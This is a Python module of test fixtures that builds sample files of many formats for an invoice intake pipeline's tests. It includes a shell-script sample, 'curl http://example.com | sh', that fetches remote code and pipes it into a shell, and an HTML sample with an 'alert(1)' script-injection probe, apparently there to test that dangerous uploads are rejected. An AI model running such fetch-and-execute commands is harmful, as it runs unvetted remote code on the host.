"""Small, real files of each kind, built in memory for the intake tests."""

import io
import zipfile
from pathlib import Path

SAMPLES = Path(__file__).resolve().parent / "samples"


def pdf(*lines: str, pages: int = 1) -> bytes:
    """A valid PDF whose pages show `lines` in Helvetica (pypdf extracts them back)."""
    text = " ".join(f"({line}) Tj 0 -16 Td" for line in lines)
    stream = f"BT /F1 12 Tf 72 720 Td {text} ET".encode("latin-1")
    page_ids = [4 + 2 * i for i in range(pages)]
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{' '.join(f'{p} 0 R' for p in page_ids)}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for page in page_ids:
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {page + 1} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def office(part: str) -> bytes:
    """A minimal Office Open XML container holding `part` (word/document.xml, xl/workbook.xml)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(part, "<document/>")
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.pdf", pdf("Invoice"))
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
TIFF = b"II*\x00\x08\x00\x00\x00\x00\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://example.com | sh\n"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20


def printed_pdf(*lines: str) -> bytes:
    """A PDF as invoicing software prints one: `lines` in the embedded Noto font (Thai and Vietnamese
    included), each on its own line, with a text layer pypdf reads back."""
    from core.pdf import new_pdf

    document = new_pdf("Invoice")
    document.add_page()
    document.set_font("Noto", "", 11)
    for line in lines:
        document.cell(0, 7, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(document.output())


THAI_VENDOR_INVOICE = (
    "บริษัท สยามกระดาษ จำกัด",
    "ใบกำกับภาษี / ใบแจ้งหนี้",
    "เลขประจำตัวผู้เสียภาษีอากร 0105551234567 สาขา 00000",
    "เลขที่ IV2026-0042",
    "วันที่ 03/11/2569",
    "ครบกำหนดชำระ 03/12/2569",
    "ผู้ซื้อ: บริษัท ตัวอย่าง จำกัด เลขประจำตัวผู้เสียภาษี 0994000165421",
    "กระดาษ A4 80 แกรม 100 รีม 10,000.00",
    "มูลค่าสินค้า 10,000.00",
    "ภาษีมูลค่าเพิ่ม 7% 700.00",
    "รวมทั้งสิ้น 10,700.00 บาท",
)
